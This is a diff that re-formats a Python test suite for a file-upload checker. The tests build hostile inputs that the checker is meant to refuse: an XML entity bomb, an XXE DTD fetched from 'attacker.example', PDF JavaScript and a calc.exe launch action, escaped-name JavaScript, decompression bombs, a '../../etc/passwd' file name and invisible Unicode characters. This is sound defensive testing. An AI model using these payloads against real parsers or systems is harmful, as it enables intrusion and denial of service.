@@ -35,6 +35,7 @@ def refused(code: str, data: bytes, name: str, **kwargs: object) -> DomainError:
 
 # ---- files made for the tests --------------------------------------------------------------------
 
+
 def pdf(build: object = None) -> bytes:
     writer = PdfWriter()
     writer.add_blank_page(200, 200)
@@ -62,9 +63,11 @@ def exif_with_gps(orientation: int = 6) -> Image.Exif:
     return exif
 
 
-CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
-                 b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
-                 b'<Override PartName="/word/document.xml" ContentType="%s"/></Types>')
+CONTENT_TYPES = (
+    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
+    b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
+    b'<Override PartName="/word/document.xml" ContentType="%s"/></Types>'
+)
 DOCX_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
 DOCUMENT = b'<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body><w:p/></w:body></w:document>'
 
@@ -82,10 +85,15 @@ def docx(*extra: tuple[str, bytes], document: bytes = DOCUMENT, main_type: bytes
 
 # ---- recognised by content ------------------------------------------------------------------------
 
+
 def test_the_four_accepted_kinds_are_recognised_by_content() -> None:
-    for name, data, kind in [("报告.pdf", pdf(), "pdf"), ("扫描.JPG", image("JPEG"), "jpeg"),
-                             ("扫描.png", image("PNG"), "png"), ("材料.docx", docx(), "docx"),
-                             ("no-extension", pdf(), "pdf")]:
+    for name, data, kind in [
+        ("报告.pdf", pdf(), "pdf"),
+        ("扫描.JPG", image("JPEG"), "jpeg"),
+        ("扫描.png", image("PNG"), "png"),
+        ("材料.docx", docx(), "docx"),
+        ("no-extension", pdf(), "pdf"),
+    ]:
         checked = files.check(data, name)
         assert checked.kind == kind and len(checked.sha256) == 64
 
@@ -132,6 +140,7 @@ def test_damaged_files_are_refused_as_corrupt() -> None:
 
 # ---- decompression bombs ---------------------------------------------------------------------------
 
+
 def test_a_small_png_declaring_100_megapixels_is_refused() -> None:
     out = BytesIO()
     Image.new("1", (10_000, 10_000)).save(out, "PNG")
@@ -158,8 +167,10 @@ def test_a_docx_zip_bomb_is_refused_by_ratio_and_by_expanded_size(monkeypatch: p
 
 
 def test_a_docx_with_a_dtd_or_entities_is_refused() -> None:
-    laughs = (b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]>'
-              b'<w:document xmlns:w="urn:w">&b;</w:document>')
+    laughs = (
+        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]>'
+        b'<w:document xmlns:w="urn:w">&b;</w:document>'
+    )
     refused("file.docx_dtd", docx(document=laughs), "laughs.docx")
     external = b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><Relationships/>'
     refused("file.docx_dtd", docx(("word/_rels/document.xml.rels", external)), "xxe.docx")
@@ -175,14 +186,16 @@ def test_a_docx_with_macros_is_refused() -> None:
 
 # ---- PDF active content and encryption ------------------------------------------------------------------
 
+
 def test_a_pdf_with_javascript_is_refused() -> None:
     refused("file.pdf_active", pdf(lambda w: w.add_open_action(JavaScript("app.alert('hi')"))), "js.pdf")
 
 
 def test_pdf_launch_actions_and_embedded_files_are_refused() -> None:
     def launch(writer: PdfWriter) -> None:
-        action = DictionaryObject({NameObject("/S"): NameObject("/Launch"),
-                                   NameObject("/F"): TextStringObject("calc.exe")})
+        action = DictionaryObject(
+            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
+        )
         writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
 
     def page_action(writer: PdfWriter) -> None:
@@ -195,10 +208,12 @@ def test_pdf_launch_actions_and_embedded_files_are_refused() -> None:
 
 def test_javascript_behind_escaped_names_is_found_by_parsing() -> None:
     """/J#53 is /JS and /Java#53cript is /JavaScript: invisible to a byte search, not to the parser."""
-    body = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n"
-            b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R"
-            b"/MediaBox[0 0 9 9]>>endobj\n4 0 obj<</S/Java#53cript/J#53(app.alert(1))>>endobj\n"
-            b"trailer<</Size 5/Root 1 0 R>>\nstartxref\n0\n%%EOF\n")
+    body = (
+        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n"
+        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R"
+        b"/MediaBox[0 0 9 9]>>endobj\n4 0 obj<</S/Java#53cript/J#53(app.alert(1))>>endobj\n"
+        b"trailer<</Size 5/Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
+    )
     assert b"/JS" not in body and b"/JavaScript" not in body
     refused("file.pdf_active", body, "escaped.pdf")
 
@@ -216,6 +231,7 @@ def test_a_plain_pdf_that_opens_at_a_page_is_kept() -> None:
 
 
 # ---- EXIF location is gone before the file is stored --------------------------------------------------
+
 
 def test_gps_location_is_stripped_from_a_jpeg_and_the_picture_is_unchanged() -> None:
     original = image("JPEG", exif=exif_with_gps())
@@ -258,6 +274,7 @@ def test_exif_and_text_chunks_are_stripped_from_a_png() -> None:
 
 # ---- display names ----------------------------------------------------------------------------------
 
+
 def test_display_names_are_sanitised() -> None:
     assert files.safe_name("../../etc/passwd.pdf", "pdf") == "passwd.pdf"
     assert files.safe_name("C:\\Users\\张伟\\报告.PDF", "pdf") == "报告.pdf"
@@ -271,9 +288,23 @@ def test_display_names_are_sanitised() -> None:
 
 # ---- text others will read -------------------------------------------------------------------------
 
+
 def test_invisible_characters_are_refused_not_dropped() -> None:
-    for sneaky in ["张\u202e伟", "张\u200b伟", "张\u200d伟", "\ufeff张伟", "张\u2066伟\u2069", "张\u061c伟",
-                   "张\x07伟", "张\x85伟", "张\u00ad伟", "张\u3164伟", "张\ue000伟", "张伟\x1c", "\u200b张伟 "]:
+    for sneaky in [
+        "张\u202e伟",
+        "张\u200b伟",
+        "张\u200d伟",
+        "\ufeff张伟",
+        "张\u2066伟\u2069",
+        "张\u061c伟",
+        "张\x07伟",
+        "张\x85伟",
+        "张\u00ad伟",
+        "张\u3164伟",
+        "张\ue000伟",
+        "张伟\x1c",
+        "\u200b张伟 ",
+    ]:
         with pytest.raises(DomainError) as caught:
             clean_text(sneaky, 50)
         assert caught.value.code == "dossier.invisible_characters", repr(sneaky)
@@ -298,10 +329,14 @@ def test_digits_are_normalised_and_chinese_punctuation_kept() -> None:
     assert clean_text("广州市天河区１２３号（东门），二楼", 200) == "广州市天河区123号（东门），二楼"
     assert validate_field(SPEC["phone"], "１３８ ００１３ ８０００") == "+8613800138000"
     assert validate_field(SPEC["years_front_line"], "１２") == 12
-    assert validate_field(FIELDS["ENTERPRISE"][1], "９１３５０１００Ｍ０００１００Ｙ４３") == "91350100M000100Y43"
+    assert (
+        validate_field(FIELDS["ENTERPRISE"][1], "９１３５０１００Ｍ０００１００Ｙ４３")
+        == "91350100M000100Y43"
+    )
 
 
 # ---- checks in a worker process, with limits ------------------------------------------------------------
+
 
 def loaded_modules() -> list[str]:
     return sorted(sys.modules)
@@ -349,8 +384,9 @@ async def test_a_check_in_the_worker_gives_the_same_result(inspector: files.Insp
     assert "services.files" in modules and "aiogram" not in modules
 
 
-async def test_a_check_that_runs_too_long_is_refused_and_the_pool_goes_on(inspector: files.Inspector,
-                                                                           tmp_path: Path) -> None:
+async def test_a_check_that_runs_too_long_is_refused_and_the_pool_goes_on(
+    inspector: files.Inspector, tmp_path: Path
+) -> None:
     flag = tmp_path / "go"
     bystander = asyncio.create_task(inspector.run(wait_for, str(flag)))  # another person's check
     await asyncio.sleep(0.2)
@@ -405,8 +441,12 @@ def test_workers_leave_when_the_bot_is_killed(tmp_path: Path) -> None:
     script = tmp_path / "bot.py"
     script.write_text(ORPHAN_SCRIPT)
     root = Path(__file__).resolve().parents[2]
-    bot = subprocess.Popen([sys.executable, str(script)], stdout=subprocess.PIPE, text=True,
-                           env={**os.environ, "PYTHONPATH": str(root)})
+    bot = subprocess.Popen(
+        [sys.executable, str(script)],
+        stdout=subprocess.PIPE,
+        text=True,
+        env={**os.environ, "PYTHONPATH": str(root)},
+    )
     try:
         worker, server = map(int, (bot.stdout.readline() if bot.stdout else "0 0").split())
         assert running(worker) and running(server)
